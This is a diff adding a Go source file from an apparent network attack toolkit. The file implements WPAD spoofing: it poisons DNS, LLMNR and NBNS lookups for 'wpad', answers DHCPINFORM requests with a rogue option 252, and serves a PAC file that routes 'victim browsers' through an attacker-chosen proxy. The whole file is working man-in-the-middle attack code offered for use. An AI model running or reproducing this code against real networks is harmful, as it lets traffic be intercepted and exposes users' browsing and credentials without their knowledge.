@@ -0,0 +1,190 @@
+package spoof
+
+import (
+	"bytes"
+	"context"
+	"fmt"
+	"github.com/google/gopacket"
+	"github.com/google/gopacket/layers"
+	"github.com/tinygoprogs/netmess/discovery"
+	"log"
+	"net"
+	"net/http"
+	"strings"
+	"time"
+)
+
+// DHCP option carrying the PAC URL, not in gopacket/layers
+const dhcpOptWPAD layers.DHCPOpt = 252
+
+// Points victim browsers at Proxy via proxy auto-config: WPAD lookups over
+// DNS, LLMNR and NBNS resolve to us, DHCPINFORM requests for option 252 get
+// our URL and the generated PAC file is served over HTTP.
+//
+// Implements Spoof interface.
+type WPAD struct {
+	stats
+	// ip:port of the HTTP proxy
+	Proxy string
+	// ip:port of the PAC server, port 80 is what browsers expect
+	Addr string
+	// host patterns (shExpMatch) not sent via Proxy
+	Direct []string
+
+	net       *discovery.Network
+	listener  *discovery.Listener
+	dns       *DNS
+	responder *Responder
+	srv       *http.Server
+}
+
+func NewWPAD(n *discovery.Network, proxy string) (*WPAD, error) {
+	if _, _, err := net.SplitHostPort(proxy); err != nil {
+		return nil, err
+	}
+	ip := n.Localhost.Addr.String()
+	wpad, err := NewDNSRule("wpad", ip)
+	if err != nil {
+		return nil, err
+	}
+	wpadDomain, err := NewDNSRule("wpad.*", ip)
+	if err != nil {
+		return nil, err
+	}
+	dns, err := NewDNS(n, wpad, wpadDomain)
+	if err != nil {
+		return nil, err
+	}
+	responder, err := NewResponder(n, "wpad")
+	if err != nil {
+		return nil, err
+	}
+	// may run next to a standalone DNS or Responder
+	dns.reason = discovery.ListenerReason{Class: discovery.InteractiveListener, Name: "spoof wpad: dns queries"}
+	responder.reason = discovery.ListenerReason{Class: discovery.InteractiveListener, Name: "spoof wpad: llmnr/nbns/mdns"}
+	return &WPAD{
+		Proxy:     proxy,
+		Addr:      net.JoinHostPort(ip, "80"),
+		net:       n,
+		dns:       dns,
+		responder: responder,
+	}, nil
+}
+
+// URL the PAC file is served at.
+func (w *WPAD) URL() string {
+	return "http://" + w.Addr + "/wpad.dat"
+}
+
+// Option 252 for rogue DHCP servers, see DHCP.Extra.
+func (w *WPAD) DHCPOption() layers.DHCPOption {
+	return layers.NewDHCPOption(dhcpOptWPAD, []byte(w.URL()))
+}
+
+// The generated proxy auto-config.
+func (w *WPAD) PAC() string {
+	var b strings.Builder
+	b.WriteString("function FindProxyForURL(url, host) {\n")
+	b.WriteString("\tif (isPlainHostName(host) || isInNet(dnsResolve(host), \"127.0.0.0\", \"255.0.0.0\"))\n")
+	b.WriteString("\t\treturn \"DIRECT\";\n")
+	for _, d := range w.Direct {
+		fmt.Fprintf(&b, "\tif (shExpMatch(host, %q))\n\t\treturn \"DIRECT\";\n", d)
+	}
+	fmt.Fprintf(&b, "\treturn \"PROXY %s; DIRECT\";\n}\n", w.Proxy)
+	return b.String()
+}
+
+func (w *WPAD) servePAC(rw http.ResponseWriter, r *http.Request) {
+	log.Printf("[+] wpad: %s %s (%s)", r.RemoteAddr, r.URL.Path, r.UserAgent())
+	rw.Header().Set("Content-Type", "application/x-ns-proxy-autoconfig")
+	host, _, _ := net.SplitHostPort(r.RemoteAddr)
+	w.hit(host)
+	_, err := rw.Write([]byte(w.PAC()))
+	w.count(err)
+}
+
+var wpadReason = discovery.ListenerReason{Class: discovery.InteractiveListener, Name: "spoof wpad: dhcp inform"}
+
+// start serving the PAC file and poisoning lookups
+func (w *WPAD) Start() error {
+	ln, err := net.Listen("tcp", w.Addr)
+	if err != nil {
+		return err
+	}
+	w.Addr = ln.Addr().String()
+	mux := http.NewServeMux()
+	mux.HandleFunc("/wpad.dat", w.servePAC)
+	mux.HandleFunc("/proxy.pac", w.servePAC)
+	srv := &http.Server{Handler: mux}
+	w.srv = srv
+	go func() {
+		if err := srv.Serve(ln); err != http.ErrServerClosed {
+			log.Printf("wpad: %v", err)
+		}
+	}()
+
+	steps := []struct {
+		start func() error
+		stop  func()
+	}{
+		{w.dns.Start, w.dns.Stop},
+		{w.responder.Start, w.responder.Stop},
+		{func() (err error) {
+			w.listener, err = w.net.Listeners.Add(wpadReason, w.inform,
+				discovery.LayerFilter(layers.LayerTypeDHCPv4))
+			return err
+		}, func() { w.listener.Remove() }},
+	}
+	for i, step := range steps {
+		if err = step.start(); err != nil {
+			// undo what started, in reverse
+			for j := i - 1; j >= 0; j-- {
+				steps[j].stop()
+			}
+			w.shutdown()
+			return err
+		}
+	}
+	log.Printf("[+] wpad: %s -> %s", w.URL(), w.Proxy)
+	return nil
+}
+
+// stop in reverse order of Start
+func (w *WPAD) Stop() {
+	if w.srv == nil {
+		// never started
+		return
+	}
+	w.listener.Remove()
+	w.responder.Stop()
+	w.dns.Stop()
+	w.shutdown()
+}
+
+func (w *WPAD) shutdown() {
+	ctx, cancel := context.WithTimeout(context.Background(), time.Second)
+	defer cancel()
+	w.srv.Shutdown(ctx)
+	w.srv = nil
+}
+
+// Answer DHCPINFORM asking for option 252 with our URL.
+func (w *WPAD) inform(pkt gopacket.Packet) {
+	dhcplayer := pkt.Layer(layers.LayerTypeDHCPv4)
+	if dhcplayer == nil {
+		return
+	}
+	req := dhcplayer.(*layers.DHCPv4)
+	if req.Operation != layers.DHCPOpRequest ||
+		dhcpMsgType(req) != layers.DHCPMsgTypeInform ||
+		!bytes.Contains(dhcpOpt(req, layers.DHCPOptParamsRequest), []byte{byte(dhcpOptWPAD)}) {
+		return
+	}
+	dhcpSend(&w.stats, w.net, req, nil, layers.DHCPOptions{
+		layers.NewDHCPOption(layers.DHCPOptMessageType, []byte{byte(layers.DHCPMsgTypeAck)}),
+		layers.NewDHCPOption(layers.DHCPOptServerID, w.net.Localhost.Addr.To4()),
+		w.DHCPOption(),
+	})
+	w.hit(req.ClientIP.String())
+	log.Printf("[+] wpad: dhcp inform %v @ %v", req.ClientHWAddr, req.ClientIP)
+}